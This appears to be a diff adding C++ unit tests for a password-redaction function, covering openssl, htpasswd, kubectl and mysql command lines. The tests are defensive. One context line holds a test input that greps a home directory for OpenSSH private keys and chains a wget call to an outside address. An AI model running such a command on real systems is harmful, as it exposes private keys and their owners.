@@ -112,6 +112,16 @@ TEST(RedactText, LeavesTheRest) {
     EXPECT_EQ(redact_text(text), text);
 }
 
+TEST(RedactText, WhatNeighboursOfAPasswordsOptionSayIsLeft) {
+  for (const auto* text :
+       {"openssl req -newkey rsa:2048 -keyout key.pem -out a.csr", "htpasswd -c /srv/users eve",
+        "openssl s_client -connect h:443 -key k.pem", "kubectl get secret db -o yaml",
+        "kubectl create configmap web --from-literal=level=debug"})
+    EXPECT_EQ(redact_text(text), text);
+  EXPECT_EQ(redact_text("kubectl exec secret -- mysql -phunter2"),
+            "kubectl exec secret -- mysql -p<redacted>");
+}
+
 TEST(RedactText, AKeysHeaderThatSomebodySearchesForIsNoKey) {
   for (const auto* text :
        {"grep -rl -----BEGIN OPENSSH PRIVATE KEY----- /home/bob ; wget -i - http://192.0.2.7/",
@@ -237,6 +247,12 @@ TEST(RedactText, APasswordIsHiddenHoweverItsProgramIsStarted) {
                            "curl -su 'eve:@@' h",
                            "curl --proxy-user=eve:@@ h",
                            "smbclient -U eve%@@ //h/s",
+                           "openssl enc -aes-256-cbc -k @@ -in a -out b",
+                           "openssl rsa -in k -passin pass:@@",
+                           "htpasswd -bc /srv/users eve @@",
+                           "htpasswd -nbB -C 10 eve @@",
+                           "kubectl -n web create secret generic db --from-literal=user=@@",
+                           "kubectl create secret generic db --from-literal user=@@ -n web",
                            "Notice Shell (user=root command=mysql -p@@ parent=<NA> pcmdline=x)"}) {
     std::string text = form;
     text.replace(text.find("@@"), 2, kSecret);
